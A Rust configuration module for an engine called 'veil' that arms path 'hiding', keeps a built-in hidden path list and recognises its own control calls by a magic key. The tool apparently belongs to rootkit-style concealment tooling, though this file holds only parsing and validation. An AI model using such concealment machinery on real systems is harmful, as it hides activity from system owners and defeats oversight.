//! Engine configuration.
//!
//! All fields have defaults, so an empty JSON object is a valid
//! configuration:
//!
//! ```json
//! {
//!   "enabled": false,
//!   "control_key": 1437204735,
//!   "builtin_hidden": ["/proc/veil"],
//!   "limits": { "max_hidden_paths": 4096, "max_identities": 1024, "max_tokens": 64 },
//!   "path_max": 4096
//! }
//! ```

use std::path::Path;

use serde::{Deserialize, Serialize};

use veil_core::{HiddenPath, VeilError, CONTROL_KEY, PATH_MAX};
use veil_store::{TableLimits, DEFAULT_BUILTIN_HIDDEN};

use crate::error::Result;

/// Configuration for the engine.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct VeilConfig {
    /// Whether hiding is armed immediately after load.
    pub enabled: bool,
    /// Option value that marks a generic control call as ours.
    pub control_key: u32,
    /// Paths hidden regardless of the dynamic table.
    pub builtin_hidden: Vec<String>,
    /// Capacity of each table.
    pub limits: TableLimits,
    /// Longest path accepted from a caller or resolved from a handle,
    /// terminator included.
    pub path_max: usize,
}

impl Default for VeilConfig {
    fn default() -> Self {
        Self {
            enabled: false,
            control_key: CONTROL_KEY,
            builtin_hidden: DEFAULT_BUILTIN_HIDDEN.iter().map(|p| p.to_string()).collect(),
            limits: TableLimits::default(),
            path_max: PATH_MAX,
        }
    }
}

impl VeilConfig {
    /// Parse and validate a JSON configuration.
    pub fn from_json(json: &str) -> Result<Self> {
        let config: Self = serde_json::from_str(json)?;
        config.validate()?;
        Ok(config)
    }

    /// Read, parse and validate a JSON configuration file.
    pub fn from_path(path: impl AsRef<Path>) -> Result<Self> {
        let json = std::fs::read_to_string(path)?;
        Self::from_json(&json)
    }

    /// Check field ranges and built-in paths.
    pub fn validate(&self) -> Result<()> {
        if self.path_max < 2 || self.path_max > PATH_MAX {
            return Err(VeilError::InvalidArgument(format!(
                "path_max must be in 2..={}",
                PATH_MAX
            ))
            .into());
        }
        self.builtin_paths()?;
        Ok(())
    }

    /// The built-in hidden set as validated entries.
    pub fn builtin_paths(&self) -> Result<Vec<HiddenPath>> {
        let paths = self
            .builtin_hidden
            .iter()
            .map(|p| HiddenPath::new(p))
            .collect::<veil_core::Result<Vec<_>>>()?;
        Ok(paths)
    }
}
